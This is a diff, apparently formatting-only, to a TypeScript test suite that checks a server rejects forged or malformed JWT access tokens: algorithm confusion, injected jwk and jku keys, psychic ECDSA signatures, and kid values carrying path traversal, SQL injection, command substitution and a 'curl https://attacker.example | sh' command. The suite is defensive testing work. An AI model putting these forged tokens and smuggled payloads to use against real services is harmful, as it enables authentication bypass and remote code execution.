@@ -74,7 +74,12 @@ const attacker = {
   ec: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
   ed: generateKeyPairSync('ed25519'),
 };
-const attackerJwk = () => ({ ...(attacker.rsa.publicKey.export({ format: 'jwk' }) as object), kid: 'attacker-key', alg: 'RS256', use: 'sig' });
+const attackerJwk = () => ({
+  ...(attacker.rsa.publicKey.export({ format: 'jwk' }) as object),
+  kid: 'attacker-key',
+  alg: 'RS256',
+  use: 'sig',
+});
 
 /** Where a request carries its credential. */
 interface Credential {
@@ -95,9 +100,11 @@ async function genuine(email = MANAGER) {
 const headerWith = (overrides: Record<string, unknown> = {}) => ({ alg: 'RS256', kid: key.kid, typ: 'at+jwt', ...overrides });
 
 /** Signed with the server's own key and RS256: only what the test changed is wrong. */
-const serverSigned = (header: Record<string, unknown>, payload: unknown) => compactJws(header, payload, signers.rsa('RS256', key.privateKey));
+const serverSigned = (header: Record<string, unknown>, payload: unknown) =>
+  compactJws(header, payload, signers.rsa('RS256', key.privateKey));
 
-const withoutClaim = (claims: Record<string, unknown>, name: string) => Object.fromEntries(Object.entries(claims).filter(([k]) => k !== name));
+const withoutClaim = (claims: Record<string, unknown>, name: string) =>
+  Object.fromEntries(Object.entries(claims).filter(([k]) => k !== name));
 
 const inBearer = (token: string): Credential => ({ headers: bearer(token) });
 
@@ -114,7 +121,8 @@ function withUnusedBitsSet(segment: string): string {
   if (unusedBits === 0) throw new Error('this segment has no unused bits to set');
   const last = alphabet.indexOf(segment.at(-1) as string);
   const respelled = `${segment.slice(0, -1)}${alphabet[last | ((1 << unusedBits) - 1)]}`;
-  if (respelled === segment || Buffer.from(respelled, 'base64url').compare(Buffer.from(segment, 'base64url')) !== 0) throw new Error('not a respelling');
+  if (respelled === segment || Buffer.from(respelled, 'base64url').compare(Buffer.from(segment, 'base64url')) !== 0)
+    throw new Error('not a respelling');
   return respelled;
 }
 
@@ -168,7 +176,9 @@ const attacks: readonly Attack[] = [
       const base64 = (segment: string) => segment.replaceAll('-', '+').replaceAll('_', '/');
       const spelled = `${t.encoded.header}.${t.encoded.payload}.${base64(t.encoded.signature)}`;
       // A signature with neither - nor _ would read the same in both alphabets; force one in.
-      return inBearer(spelled.includes('+') || spelled.includes('/') ? spelled : `${t.encoded.header}.${t.encoded.payload}.${t.encoded.signature}+`);
+      return inBearer(
+        spelled.includes('+') || spelled.includes('/') ? spelled : `${t.encoded.header}.${t.encoded.payload}.${t.encoded.signature}+`,
+      );
     },
   ],
 
@@ -234,7 +244,8 @@ const attacks: readonly Attack[] = [
   ],
   [
     'ES256 with a fresh key under the server’s kid',
-    async () => inBearer(compactJws(headerWith({ alg: 'ES256' }), (await genuine()).payload, signers.ecdsa('ES256', attacker.ec.privateKey))),
+    async () =>
+      inBearer(compactJws(headerWith({ alg: 'ES256' }), (await genuine()).payload, signers.ecdsa('ES256', attacker.ec.privateKey))),
   ],
   [
     'EdDSA with a fresh key under the server’s kid',
@@ -249,11 +260,18 @@ const attacks: readonly Attack[] = [
   [
     'the attacker’s key injected in a jwk header, signed with it',
     async () =>
-      inBearer(compactJws({ alg: 'RS256', typ: 'at+jwt', jwk: attackerJwk() }, (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
+      inBearer(
+        compactJws(
+          { alg: 'RS256', typ: 'at+jwt', jwk: attackerJwk() },
+          (await genuine()).payload,
+          signers.rsa('RS256', attacker.rsa.privateKey),
+        ),
+      ),
   ],
   [
     'the attacker’s key injected in a jwk header under the server’s kid, signed with it',
-    async () => inBearer(compactJws(headerWith({ jwk: attackerJwk() }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
+    async () =>
+      inBearer(compactJws(headerWith({ jwk: attackerJwk() }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
   ],
   [
     'a jku header naming the attacker’s JWKS URL, signed with the attacker’s key',
@@ -298,11 +316,13 @@ const attacks: readonly Attack[] = [
   ],
   [
     'kid ../../dev/null (path traversal) with HS256 and an empty secret',
-    async () => inBearer(compactJws(headerWith({ alg: 'HS256', kid: '../../dev/null' }), (await genuine()).payload, signers.hmac('HS256', ''))),
+    async () =>
+      inBearer(compactJws(headerWith({ alg: 'HS256', kid: '../../dev/null' }), (await genuine()).payload, signers.hmac('HS256', ''))),
   ],
   [
     'kid /proc/self/environ (path traversal) with HS256 and an empty secret',
-    async () => inBearer(compactJws(headerWith({ alg: 'HS256', kid: '/proc/self/environ' }), (await genuine()).payload, signers.hmac('HS256', ''))),
+    async () =>
+      inBearer(compactJws(headerWith({ alg: 'HS256', kid: '/proc/self/environ' }), (await genuine()).payload, signers.hmac('HS256', ''))),
   ],
   [
     "kid ' UNION SELECT 'attacker-secret';-- (SQL injection) with HS256 and that secret",
@@ -317,7 +337,8 @@ const attacks: readonly Attack[] = [
   ],
   [
     "kid x' OR '1'='1 (SQL injection), signed with the attacker’s key",
-    async () => inBearer(compactJws(headerWith({ kid: "x' OR '1'='1" }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
+    async () =>
+      inBearer(compactJws(headerWith({ kid: "x' OR '1'='1" }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
   ],
   [
     'kid key.pem; curl https://attacker.example | sh (command injection), signed with the attacker’s key',
@@ -332,13 +353,18 @@ const attacks: readonly Attack[] = [
   ],
   [
     'kid $(id)`id` (command substitution), signed with the attacker’s key',
-    async () => inBearer(compactJws(headerWith({ kid: '$(id)`id`' }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
+    async () =>
+      inBearer(compactJws(headerWith({ kid: '$(id)`id`' }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
   ],
   [
     'an unknown kid, signed with the attacker’s key',
-    async () => inBearer(compactJws(headerWith({ kid: randomUUID() }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
+    async () =>
+      inBearer(compactJws(headerWith({ kid: randomUUID() }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
   ],
-  ['an unknown kid, signed with the server’s key', async () => inBearer(serverSigned(headerWith({ kid: randomUUID() }), (await genuine()).payload))],
+  [
+    'an unknown kid, signed with the server’s key',
+    async () => inBearer(serverSigned(headerWith({ kid: randomUUID() }), (await genuine()).payload)),
+  ],
 
   // ECDSA "psychic signatures" (CVE-2022-21449): r = s = 0 verifies anything in a broken verifier.
   [
@@ -374,7 +400,8 @@ const attacks: readonly Attack[] = [
   ['a token without typ', async () => inBearer(serverSigned(headerWith({ typ: undefined }), (await genuine()).payload))],
   [
     'a token with a crit header parameter the verifier does not know (RFC 7515 §4.1.11)',
-    async () => inBearer(serverSigned(headerWith({ crit: ['urn:example:policy'], 'urn:example:policy': 'strict' }), (await genuine()).payload)),
+    async () =>
+      inBearer(serverSigned(headerWith({ crit: ['urn:example:policy'], 'urn:example:policy': 'strict' }), (await genuine()).payload)),
   ],
 
   // Credentials of another kind where an access token is expected.
@@ -442,7 +469,10 @@ const attacks: readonly Attack[] = [
   claimsAttack('a 20 KB token, well signed', (c) => ({ ...c, pad: 'x'.repeat(15 * 1024) })),
 
   // A credential in the query string never counts (API.md).
-  ['a genuine token only in the query string (?access_token=)', async () => ({ headers: {}, query: { access_token: (await genuine()).accessToken } })],
+  [
+    'a genuine token only in the query string (?access_token=)',
+    async () => ({ headers: {}, query: { access_token: (await genuine()).accessToken } }),
+  ],
   ['a genuine token only in the query string (?token=)', async () => ({ headers: {}, query: { token: (await genuine()).accessToken } })],
 ];
 
@@ -543,7 +573,9 @@ describe('controls: what the attacks start from is accepted', () => {
     const t = await genuine();
 
     // Act
-    const answer = await call(server.url, '/auth/me', { headers: bearer(await signWithServerKey(server, { ...t.payload, exp: now() - 4 })) });
+    const answer = await call(server.url, '/auth/me', {
+      headers: bearer(await signWithServerKey(server, { ...t.payload, exp: now() - 4 })),
+    });
 
     // Assess
     expect(answer.status).toBe(200);
@@ -569,7 +601,14 @@ describe('controls: what the attacks start from is accepted', () => {
     expect(decisions).toEqual(
       protectedOperations.map(() => ({
         isAuthorized: true,
-        context: { decision: 'allow', userId: t.userId, role: 'MANAGER', tenantId: 'demo', sessionId: t.sessionId, credential: 'access_token' },
+        context: {
+          decision: 'allow',
+          userId: t.userId,
+          role: 'MANAGER',
+          tenantId: 'demo',
+          sessionId: t.sessionId,
+          credential: 'access_token',
+        },
       })),
     );
   });
